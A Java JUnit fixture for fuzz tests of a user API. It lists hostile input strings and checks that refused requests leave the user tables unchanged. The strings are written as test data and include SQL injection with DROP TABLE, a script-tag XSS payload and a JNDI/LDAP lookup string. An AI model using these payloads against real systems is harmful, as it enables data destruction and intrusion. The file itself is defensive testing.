package dev.inkwell.api.user;

import dev.inkwell.api.ApiApp;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.params.provider.Arguments;

import java.util.List;
import java.util.Map;
import java.util.function.Supplier;
import java.util.stream.Stream;

import static dev.inkwell.api.user.Wire.snapshot;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * What the user fuzz tests ({@code *FuzzIT} in this package) share: the hostile strings (as
 * {@code @MethodSource("dev.inkwell.api.user.UserFuzzFixture#hostileStrings")} and its kin), fresh
 * users to act on, and the check that a refused request changed nothing.
 */
final class UserFuzzFixture {
    static final String PASSWORD = "a perfectly fine password";

    private final ApiApp api;

    UserFuzzFixture(ApiApp api) {
        this.api = api;
    }

    /**
     * Sends {@code request} and asserts that the user tables are as before it (their fingerprint
     * is taken after the shared admin exists, so that its sign-up is not taken for a change).
     */
    void changesNothing(Runnable request) {
        api.sharedAdmin();
        String before = snapshot(api.jdbi());
        request.run();
        assertThat(snapshot(api.jdbi())).as("the user tables after the request").isEqualTo(before);
    }

    /** A fresh user for an admin to act on, inserted directly (no password, no hashing). */
    long newTarget() {
        String name = ApiApp.unique("fztarget");
        return api.jdbi().withHandle(h -> h.createQuery("INSERT INTO users (username, email) VALUES (:u, :e) RETURNING id")
                .bind("u", name).bind("e", name.toLowerCase() + "@example.com").mapTo(Long.class).one());
    }

    /** The fields a problem's {@code errors} name, in order (none when it has no errors). */
    @SuppressWarnings("unchecked")
    static List<Object> errorFields(Map<String, Object> problem) {
        List<Map<String, Object>> errors = (List<Map<String, Object>>) problem.get("errors");
        return errors == null ? List.of() : errors.stream().map(e -> e.get("field")).toList();
    }

    /** Every pair of one of {@code firsts} and one of {@code seconds} (a fresh stream each time), as arguments, firsts outermost. */
    static Stream<Arguments> pairs(List<?> firsts, Supplier<? extends Stream<?>> seconds) {
        return firsts.stream().flatMap(first -> seconds.get().map(second -> Arguments.of(first, second)));
    }

    /** Strings that have broken somebody's SQL, LIKE, tsquery, C string or buffer before. */
    static Stream<Named<String>> hostileStrings() {
        return Stream.of(
                Named.of("SQL comment", "' OR 1=1 --"),
                Named.of("SQL statement", "x'; DROP TABLE users; --"),
                Named.of("percent", "%"),
                Named.of("underscore", "_"),
                Named.of("tsquery prefix", ":*"),
                Named.of("open parenthesis", "("),
                Named.of("backslash", "\\"),
                Named.of("NUL", "a\u0000b"),
                Named.of("only NUL", "\u0000"),
                Named.of("markup", "<script>alert(1)</script>"),
                Named.of("lookup", "${jndi:ldap://example.org/x}"),
                Named.of("100,000 characters", "x".repeat(100_000)),
                Named.of("100,000 quotes", "'".repeat(100_000)));
    }

    /** The hostile strings that are not valid as username (all) nor as e-mail address (all). */
    static Stream<Named<String>> invalidNames() {
        return hostileStrings();
    }

    /** Hostile strings that PostgreSQL can store (no NUL) and that fit a 2,000-character bio. */
    static Stream<Named<String>> storableTexts() {
        return hostileStrings().filter(n -> !n.getPayload().contains("\u0000") && n.getPayload().length() <= 2000);
    }

    static Stream<Named<String>> nonNulTexts() {
        return hostileStrings().filter(n -> !n.getPayload().contains("\u0000"));
    }

    static Stream<Named<String>> nulTexts() {
        return hostileStrings().filter(n -> n.getPayload().contains("\u0000"));
    }
}
